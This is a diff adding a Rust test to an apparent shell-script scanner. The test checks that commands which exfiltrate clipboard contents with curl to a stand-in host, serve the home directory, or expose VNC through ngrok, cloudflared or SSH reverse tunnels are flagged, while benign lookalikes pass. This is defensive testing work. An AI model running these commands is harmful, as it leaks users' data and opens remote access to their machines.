@@ -126,3 +126,26 @@ fn harmless_scripts_and_texts_are_allowed() {
         assert!(!is_flagged(path, text), "{text}");
     }
 }
+
+#[test]
+fn clipboards_and_tunnels_are_followed() {
+    for text in [
+        "curl -s --data-urlencode \"c=$(xclip -o -selection clipboard)\" https://notes.a.example/add\n",
+        "pbpaste | curl -d @- https://notes.a.example/add\n",
+        "cloudflared tunnel --url http://localhost:80 2>&1 | grep -o 'https://.*' | xargs -I{} curl \"https://a.example/?u={}\"\n",
+        "python3 -m http.server 8000 --directory \"$HOME\"\n",
+        "ngrok http 5900\n",
+        "ssh -N -R 80:localhost:5900 nokey@localhost.run\n",
+    ] {
+        assert_ne!(scan_one("a.sh", text).verdict, Verdict::Allow, "{text}");
+    }
+    for text in [
+        "echo done | pbcopy\n",
+        "pbpaste | jq .\n",
+        "ngrok http 3000\n",
+        "python3 -m http.server 8000 --directory site\n",
+        "cloudflared tunnel --url http://localhost:3000\n",
+    ] {
+        assert_eq!(scan_one("a.sh", text).verdict, Verdict::Allow, "{text}");
+    }
+}
